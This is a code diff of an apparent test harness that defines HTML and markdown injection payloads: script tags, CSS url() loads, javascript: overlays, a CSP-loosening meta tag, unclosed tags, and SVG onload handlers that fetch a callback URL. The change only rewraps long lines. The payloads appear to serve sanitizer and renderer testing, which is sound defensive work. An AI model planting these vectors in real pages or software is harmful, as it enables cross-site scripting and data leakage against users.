@@ -193,7 +193,8 @@ HTML = {
     "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["@B"]}]}</script>',
     "import map": '<script type="importmap">{"imports":{"x":"@B"}}</script>'
                   '<script type="module">import "x"</script>',
-    "style font": "<style>@font-face{font-family:f@N;src:url(@B)}p{font-family:f@N}</style><p>f</p>",
+    "style font": "<style>@font-face{font-family:f@N;src:url(@B)}p{font-family:f@N}</style>"
+                  "<p>f</p>",
     "style list": '<ul style="list-style-image:url(@B)"><li>l</li></ul>',
     "style cursor": '<b style="cursor:url(@B),auto">b</b>',
     "style content": "<style>.c@N::before{content:url(@B)}</style><b class=c@N>b</b>",
@@ -223,10 +224,11 @@ ALONE = {
     "textarea without an end": '<form action="@B"><button>b</button><textarea name=t>',
     "title without an end": "<script>@J</script><title>",
     "many ends": "</div></div></div></div></div></main></body></html><script>@J</script>",
-    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>@J</script>',
+    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">'
+              "<script>@J</script>",
     "overlay": '<a href="javascript:@J" style="position:fixed;inset:0;z-index:9999">x</a>',
     "overlay by a class": '<div class="jp-Dialog"><a href="@B">x</a></div><script>@J</script>',
-}
+}  # fmt: skip
 """What takes the page away, or swallows what comes after it: each has a page of its own."""
 
 MARKDOWN = {
@@ -322,7 +324,8 @@ def made(text: str, number: int, url: str) -> str:
     run = script(number, url)
     # The frame of another origin cannot reach `top`, but it can call home.
     document = f"<script>fetch(`{url}/{number}`,{{mode:`no-cors`}});{run}</script>"
-    svg = f'<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="{run}"><script>{run}</script></svg>'
+    inside = f'id="x" onload="{run}"><script>{run}</script>'
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg" {inside}</svg>'
     values = {
         "@QJ": quote(run),
         "@Q": quote(document),
